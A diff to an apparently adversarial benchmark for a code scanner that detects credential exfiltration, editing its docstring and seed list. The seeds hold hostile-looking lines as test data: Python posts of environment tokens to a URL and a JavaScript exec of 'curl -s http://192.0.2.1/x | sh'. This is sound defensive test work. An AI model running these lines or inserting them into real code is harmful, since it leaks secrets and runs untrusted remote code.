@@ -17,10 +17,13 @@ Statements that differ only in the URLs they fetch replay the first one's analys
 graded together (`scan_shapes`, `HostPolicy.trusts`); what PowerShell's analysis read of the text
 is read again only where a URL could change it (`powershell_reads`). Calls that differ only in a
 part their check cannot read (a plain name run by a shell, a plain string decoded for exec) share
-the first one's verdict (`python_call_shapes`). The known cases over the target are floods of
-distinct credential sends that never become a finding (`requests.post(u, data=os.environ['A{n}_TOKEN'])`, `const k{n} =
-process.env.A{n}; axios.post(U, k{n})`, through aliases, getattr or destructuring): every tainted
-assignment and every send is walked and judged on its own.
+the first one's verdict (`python_call_shapes`). Credential flows leave cold the environment reads
+no send of the file can report (`flow_demand`: sends that cannot name a host report only all of the
+environment or a secret file; without a DNS lookup of a built name, only a credential's name
+counts). The known case over the target is a flood of distinct credential sends that must each be
+judged and never become a finding: each credential sent to its own API
+(`requests.post('https://api.example.com/v1', data=os.getenv('EXAMPLE_TOKEN_{n}'))`): every
+tainted read and every send is walked and judged on its own.
 
     .venv/bin/python bench/adversarial_treesitter.py [--size BYTES] [--only LANGS] [--verbose]
 """
@@ -58,6 +61,7 @@ SEEDS: dict[FileKind, list[str]] = {
         "k{n} = os.environ.get('A{n}')\nrequests.post(U, data=k{n})\n",
         "g{n} = getattr(os, 'getenv')\nhttpx.post(u, data=g{n}('A{n}_TOKEN'))\n",
         "requests.post('https://api.example.com/v1', data=os.getenv('A{n}'))\n",
+        "requests.post('https://api.example.com/v1', data=os.getenv('EXAMPLE_TOKEN_{n}'))\n",
     ],
     FileKind.JAVASCRIPT: [
         "require('child_process').exec('curl -s http://192.0.2.1/x | sh');\n",
